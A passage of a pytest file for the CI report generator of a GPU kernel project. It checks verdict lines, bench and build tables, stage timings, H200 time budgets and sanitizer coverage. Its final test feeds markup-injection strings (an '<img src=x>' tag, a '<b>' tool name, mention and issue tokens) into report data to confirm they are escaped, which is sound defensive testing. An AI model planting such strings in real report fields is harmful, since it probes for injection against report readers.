        f"## {INFO} flashmoe-science: passed on the CPU: CUDA kernels not run (1,532 gates skipped"
    )
    # a failure keeps its own words first, and still says where it ran
    reports = copy_fixture("cpu_passing", tmp_path / "failed")
    gates = json.loads((reports / "gates.json").read_text())
    gates["cases"][0].update(outcome="failed", passed=False, failures=["max diff over bound"])
    gates.update(outcome="failed")
    gates["gates"].update(passed=381, failed=1)
    (reports / "gates.json").write_text(json.dumps(gates))
    _, text = render_dir(reports)
    assert first_line(text).startswith(
        "## ❌ flashmoe-science: 1 gate failed; on the CPU: CUDA kernels not run"
    )
    # a GPU run's first line does not (the L4 fixture: CUDA gates and a CUDA bench)
    _, text = run_report(FIXTURES / "passing", tmp_path / "gpu")
    assert first_line(text) == "## ✅ flashmoe-science: passed"
    assert "CPU" not in first_line(text)


def test_a_cpu_bench_under_load_is_not_judged(tmp_path):
    reports = copy_fixture("cpu_passing", tmp_path / "busy")
    _, text = render_dir(reports)
    row = next(line for line in text.splitlines() if line.startswith(f"| {INFO} | bench |"))
    assert "not judged (load average 4.0 on 2 CPUs)" in row and "geo-mean" not in row
    assert "**Not judged**: load average 4.0 on 2 CPUs" in text
    assert "load average 3.4 → 4.0 on 2 CPUs" in text  # both readings, in the facts
    # the same run on an idle machine: judged as before, its geomean in the row
    bench = json.loads((reports / "bench.json").read_text())
    bench["load"] = {"cpus": 2, "before": [0.3, 0.2, 0.1], "after": [1.9, 0.7, 0.3]}
    (reports / "bench.json").write_text(json.dumps(bench))
    _, text = render_dir(reports)
    row = next(line for line in text.splitlines() if line.startswith(f"| {INFO} | bench |"))
    assert "not judged" not in row and f"0.32{report.TIMES} SDPA default (geo-mean)" in row
    assert "bench not judged" not in first_line(text)


def test_a_section_that_judged_nothing_is_information_not_a_pass(tmp_path):
    _, text = run_report(FIXTURES / "cpu_passing", tmp_path)
    assert f"| {INFO} | speed | 0 met, 0 missed, 3 not judged (CPU backend) | — |" in text
    assert "✅ <b>Speed targets</b>" not in text


def test_cuda_only_baselines_on_the_cpu_say_so_not_the_exception(tmp_path):
    # the older record keeps SDPA's exception as the reason; the report does not show it
    _, text = run_report(FIXTURES / "cpu", tmp_path)
    assert "No viable backend" not in text and "RuntimeError" not in text
    assert "| not available on the CPU | not available on the CPU |" in text


def test_no_chart_when_every_point_is_zero():
    from flashmoe_science.pipeline.report.bench_section import prefill_chart

    def case(seqlen: int, ours: float, sdpa: float) -> dict:
        return {
            "id": f"fwd-fp16-d64-h4-b8-s{seqlen}-full",
            "group": "prefill",
            **dict(dtype="fp16", head_dim=64, heads_q=4, heads_kv=4, causal=False),
            "seqlen_k": seqlen,
            "ours": {"status": "ok", "median_ms": 1.0, "tflops": ours},
            "baselines": {"sdpa-default": {"status": "ok", "median_ms": 1.0, "tflops": sdpa}},
        }

    cpu = [case(128, 0.00137, 0.0021), case(256, 0.0012, 0.0019)]  # TFLOP/s of a CPU: 0.0
    assert prefill_chart(cpu) == ""
    gpu = [case(128, 31.0, 29.5), case(256, 60.2, 58.0)]
    assert "xychart-beta" in prefill_chart(gpu)


def test_the_build_has_one_time_the_stages(tmp_path):
    _, text = run_report(FIXTURES / "cpu_passing", tmp_path)
    assert "| ✅ | build | cpu, 0 kernels, no spills | 13.9 s |" in text
    assert "**time** 13.9 s (up to date: nothing compiled)" in text
    assert "0.0 s" not in text


# ---- build and env ----


def test_dynamic_shared_memory_beside_the_static(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    build = json.loads((reports / "build.json").read_text())
    build["kernels"][0].update(smem_bytes=0, dynamic_smem=98304)
    del build["kernels"][1]["dynamic_smem"]  # a row of an older build.json
    (reports / "build.json").write_text(json.dumps(build))
    _, text = render_dir(reports)
    assert "| static smem | dynamic smem |" in text
    rows = [line for line in text.splitlines() if line.startswith("| `flash_fwd_kernel")]
    assert "| 0 B | 96 KiB |" in rows[0]
    assert "| 48 KiB | — |" in rows[1]  # no field: unknown, never 0 B


def test_extension_not_built_is_no_news_when_the_build_ran(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    _, text = render_dir(reports)
    assert "not built yet" not in text
    (reports / "build.json").unlink()
    _, text = render_dir(reports)
    assert "not built yet" in text


# ---- wall times: every stage, and the job's total ----


def test_every_stage_timed_once_by_the_cli_and_the_total_is_the_jobs(tmp_path, monkeypatch):
    import sys
    import types

    from flashmoe_science.pipeline import cli

    reports = tmp_path / "reports"
    monkeypatch.setenv("FLASHMOE_REPORTS_DIR", str(reports))
    codes = {"env": 0, "build": 0, "test": 1, "bench": 0, "sanitize": exitcodes.TOOL_MISSING}
    for name, code in codes.items():
        module = types.ModuleType(f"fake_{name}")
        module.main = lambda argv, code=code: code
        monkeypatch.setitem(sys.modules, module.__name__, module)
        monkeypatch.setitem(cli.COMMANDS, name, (module.__name__, "stand-in"))
        assert cli.main([name]) == code
    monkeypatch.setenv(stages.JOB_START_VAR, str(int(__import__("time").time()) - 449))
    assert report.main(["--dir", str(reports), "--no-step-summary"]) == exitcodes.OK
    text = (reports / "report.md").read_text()
    table = text[text.index("| stage |") : text.index("**total**")]
    rows = [line for line in table.splitlines()[2:] if line.count("|") > 3]
    assert len(rows) == 5 and all(not row.endswith("| — |") for row in rows), rows
    assert "| ❌ | test | failed before writing gates.json |" in text
    assert "| ⚠️ | build | ran, but wrote no build.json |" in text
    assert "| ⏭️ | sanitize | skipped (a tool is missing) |" in text
    total = re.search(
        r"\| \*\*total\*\* \| the job, from its first step \| \*\*(7m \d\ds)\*\* \|", text
    )
    assert total and total.group(1) in ("7m 29s", "7m 30s"), text


def timed(started: float, seconds: float, status: str = "ok") -> dict:
    return {"started_at": started, "seconds": seconds, "status": status}


def test_the_critical_path_is_where_the_jobs_time_went_in_order():
    ran = {
        "env": timed(100.0, 5.0),
        "select": timed(106.0, 2.0),
        "build": timed(108.5, 120.0),
        "test": timed(258.5, 200.0),  # 30 s after the build: another step ran between
        "profile": timed(268.5, 60.0),  # alongside the test stage, and shorter: off the path
        "bench": timed(458.5, 50.0, "running"),  # no end yet: not on it
    }
    path = stages.critical_path(ran, start=40.0, end=500.0)
    assert path == [
        (stages.SETUP, 60.0),
        ("env", 5.0),
        (stages.BETWEEN, 1.0),  # a process starting: the report names no gap this short
        ("select", 2.0),
        (stages.BETWEEN, 0.5),
        ("build", 120.0),
        (stages.BETWEEN, 30.0),
        ("test", 200.0),
        (stages.FINISH, 41.5),
    ]
    assert sum(seconds for _, seconds in path) == 460.0, "the whole job, start to end"
    assert stages.critical_path(ran)[0] == ("env", 5.0), "without the job's start: from env"
    assert stages.critical_path({"env": {"seconds": 3.0, "status": "ok"}}) == []


def test_the_report_shows_the_critical_path_and_the_h200_budget(tmp_path, monkeypatch):
    """In the job, the path runs from the job's first step (FLASHMOE_JOB_START) to the report;
    stages.json keeps that start, so the trusted re-render shows the setup step too. On an H200,
    the card the budget was set for, a test stage over 4 minutes is said."""
    import datetime
    import time

    from flashmoe_science.pipeline import cli

    reports = copy_fixture("passing", tmp_path)
    (reports / "stages.json").unlink()
    env = json.loads((reports / "env.json").read_text())
    env["gpu"]["name"], env["gpu"]["capability"] = "NVIDIA H200", "9.0"
    (reports / "env.json").write_text(json.dumps(env))
    monkeypatch.setenv("FLASHMOE_REPORTS_DIR", str(reports))
    start = time.time() - 90
    monkeypatch.setenv(stages.JOB_START_VAR, str(start))
    began = datetime.datetime.fromtimestamp(start + 30, datetime.timezone.utc)
    stages.record_stage("env", 5.0, "ok", 0, started=began.isoformat())
    monkeypatch.setattr(cli, "_run", lambda name, rest: 0)
    assert cli.main(["test"]) == 0
    _, text = render_dir(reports)
    line = next(line for line in text.splitlines() if line.startswith("**Critical path**"))
    assert " → test " in line and line.split(": ", 1)[1].startswith("setup ")
    assert "within the NVIDIA H200 budget (job 8m 00s, test 4m 00s)" in line
    assert json.loads((reports / "stages.json").read_text())["job_start"] == float(start)
    doc = json.loads((reports / "stages.json").read_text())
    doc["stages"]["test"]["seconds"] = 301.0
    (reports / "stages.json").write_text(json.dumps(doc))
    monkeypatch.delenv(stages.JOB_START_VAR)  # the trusted re-render: no job of its own
    _, text = render_dir(reports)
    line = next(line for line in text.splitlines() if line.startswith("**Critical path**"))
    assert line.split(": ", 1)[1].startswith("setup "), "the start stages.json kept"
    assert "⚠️ over the NVIDIA H200 budget: test 5m 01s > 4m 00s" in line


def test_help_is_not_a_stage(tmp_path, monkeypatch):
    from flashmoe_science.pipeline import cli

    monkeypatch.setenv("FLASHMOE_REPORTS_DIR", str(tmp_path))
    with pytest.raises(SystemExit):
        cli.main(["env", "--help"])
    assert not (tmp_path / "stages.json").exists()
    # nor is a listing: `test --list` after a run would replace the test stage's time and status
    assert cli.main(["bench", "--list", "--backend", "cpu", "--quick"]) == exitcodes.OK
    assert not (tmp_path / "stages.json").exists()


def test_a_job_start_that_is_not_this_job_is_ignored():
    assert stages.job_seconds(stages.job_start({"FLASHMOE_JOB_START": "soon"})) is None
    assert stages.job_seconds(1000.0, now=900.0) is None  # in the future
    assert stages.job_seconds(1000.0, now=1000.0 + 30 * 24 * 3600) is None  # a month ago
    assert stages.job_seconds(1000.0, now=1449.0) == 449.0


@pytest.mark.parametrize(("workflow", "job"), [("gpu-ci.yml", "gpu"), ("cpu-ci.yml", "cpu-tests")])
def test_the_ci_jobs_give_the_report_the_jobs_start_and_one_run_id(workflow, job):
    yaml = pytest.importorskip("yaml")
    spec = yaml.safe_load(
        (Path(__file__).parents[2] / ".github" / "workflows" / workflow).read_text()
    )
    job_spec = spec["jobs"][job]
    first = job_spec["steps"][0]
    assert first["run"] == 'echo "FLASHMOE_JOB_START=$(date +%s)" >> "$GITHUB_ENV"'
    assert "github.run_id" in job_spec["env"][provenance.RUN_ID_VAR]


def test_without_jsonschema_the_bench_renders_with_a_caveat(tmp_path, monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "jsonschema", None)  # `import jsonschema` raises ImportError
    rc, text = render_dir(copy_fixture("passing", tmp_path))
    assert rc == exitcodes.OK
    assert (
        "> **Note:** bench.json was not checked against its schema: jsonschema is not installed"
        in text
    )


def test_a_schema_that_declares_provenance_checks_it(tmp_path):
    from flashmoe_science.pipeline.report.inputs import BENCH_SCHEMA, bench_problem

    schema = json.loads(BENCH_SCHEMA.read_text())
    schema["properties"]["provenance"] = {"type": "object", "required": ["commit", "run_id"]}
    path = tmp_path / "bench.schema.json"
    path.write_text(json.dumps(schema))
    bench = json.loads((FIXTURES / "passing" / "bench.json").read_text())
    assert bench_problem(bench, path) == (None, None)
    bench["provenance"] = {"commit": FIXTURE_COMMIT}
    problem, _ = bench_problem(bench, path)
    assert problem and "at provenance: 'run_id' is a required property" in problem


def test_a_comparison_without_a_compared_case_is_not_compared(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    bench = json.loads((reports / "bench.json").read_text())
    bench["comparison"]["cases"] = [{"id": "x", "verdict": "missing", "reason": "base failed"}]
    (reports / "bench.json").write_text(json.dumps(bench))
    _, text = render_dir(reports)
    assert text.splitlines()[0].endswith(
        "bench not compared (no case has a base timing, 1 case missing)"
    )


def test_an_unusable_job_start_is_said(tmp_path, monkeypatch):
    monkeypatch.setenv(stages.JOB_START_VAR, "yesterday")
    _, text = render_dir(copy_fixture("passing", tmp_path))
    assert "FLASHMOE_JOB_START='yesterday' is not this job's start" in text
    assert "sum of this run's stages" in text


def test_a_report_folder_that_cannot_be_written_does_not_fail_the_stage(tmp_path, capsys):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("")
    with stages.timed_stage("env", directory=blocker) as run:
        run.exit_code = exitcodes.OK
    assert "env: cannot record the stage in stages.json" in capsys.readouterr().err


# ---- the sanitizer: per tool, what it does not check of the Hopper features ----


def _sanitize_doc(options: list[str], failing: tuple[str, ...] = ()) -> dict:
    """sanitize.json as the sanitize stage writes it, the coverage from sanitize_coverage."""
    from flashmoe_science.pipeline.tools import sanitize, sanitize_coverage

    tools = {
        tool: {
            "status": "fail" if tool in failing else "pass",
            "coverage": sanitize_coverage.coverage(tool, options),
        }
        for tool in sanitize.TOOLS
    }
    return {
        "schema": sanitize.SCHEMA,
        "provenance": _provenance(),
        "gpu": "NVIDIA H100 80GB HBM3",
        "sanitizer_version": "Version 2025.3.1.0",
        "sanitizer_options": options,
        "status": "fail" if failing else "pass",
        "tools": tools,
    }


def _with_sanitize(tmp_path: Path, doc: dict, status: str = "ok") -> tuple[int, str]:
    reports = copy_fixture("passing", tmp_path)
    (reports / "sanitize.json").write_text(json.dumps(doc))
    stages.record_stage("sanitize", 300.0, status, 0 if status == "ok" else 1, directory=reports)
    return render_dir(reports)


def test_a_clean_sanitize_says_per_tool_what_it_did_not_check(tmp_path):
    options = ["--check-bulk-copy", "--check-warpgroup-mma"]
    rc, text = _with_sanitize(tmp_path, _sanitize_doc(options))
    assert rc == exitcodes.OK and text.splitlines()[0] == "## ✅ flashmoe-science: passed"
    assert (
        "| ✅ | sanitize | clean; not checked: TMA (racecheck), wgmma (initcheck, racecheck), "
        "mbarrier (memcheck, initcheck), named barrier (memcheck, initcheck, racecheck) | 5m 00s |"
    ) in text
    assert text.count("| sanitize |") == 1  # the section stands for the stage's own row
    assert "| racecheck | pass | **not checked** | not documented | **not checked** |" in text
    assert "- racecheck, TMA: not checked: racecheck checks threads' shared-memory" in text
    assert "`--check-bulk-copy`, `--check-warpgroup-mma`" in text
    assert_well_formed(text)


def test_a_sanitizer_without_the_hopper_options_is_named_for_each_tool(tmp_path):
    rc, text = _with_sanitize(tmp_path, _sanitize_doc([]))
    assert rc == exitcodes.OK
    assert "- memcheck, TMA: not checked: this compute-sanitizer has no --check-bulk-copy" in text
    assert (
        "- synccheck, wgmma: not checked: this compute-sanitizer has no --check-warpgroup-mma"
        in text
    )
    assert "| memcheck | pass | **not checked** | **not checked** | **not checked** |" in text
    assert "passed as `yes` to the tools they concern: none." in text


def test_a_failed_sanitize_fails_the_verdict_once(tmp_path):
    doc = _sanitize_doc(["--check-bulk-copy"], failing=("racecheck",))
    rc, text = _with_sanitize(tmp_path, doc, status="fail")
    assert rc == exitcodes.OK  # the verdict is data
    assert text.splitlines()[0] == "## ❌ flashmoe-science: sanitize failed"
    assert "| ❌ | sanitize | FAILED (racecheck); not checked:" in text
    assert text.count("| sanitize |") == 1


def test_a_stale_or_malformed_sanitize_json_is_no_pass(tmp_path):
    doc = _sanitize_doc([])
    doc["provenance"] = _provenance(OLDER_SHA)
    rc, text = _with_sanitize(tmp_path / "stale", doc)
    assert rc == exitcodes.USAGE and "stale sanitize.json" in text.splitlines()[0]
    doc = _sanitize_doc([])
    doc["tools"]["memcheck"]["coverage"] = "all of it"
    rc, text = _with_sanitize(tmp_path / "bad", doc)
    assert rc == exitcodes.USAGE and "sanitize.json unreadable" in text.splitlines()[0]


def test_sanitize_json_text_is_escaped(tmp_path):
    doc = _sanitize_doc([])
    doc["tools"]["racecheck"]["coverage"][0]["why"] = "<img src=x> @someone | #12"
    doc["tools"]["<b>x</b>"] = {"status": "pass", "coverage": []}
    _, text = _with_sanitize(tmp_path, doc)
    assert "<img" not in text and "<b>x</b>" not in text
    assert "&lt;img src=x&gt; @\u200bsomeone \\| #\u200b12" in text
    assert_well_formed(text)
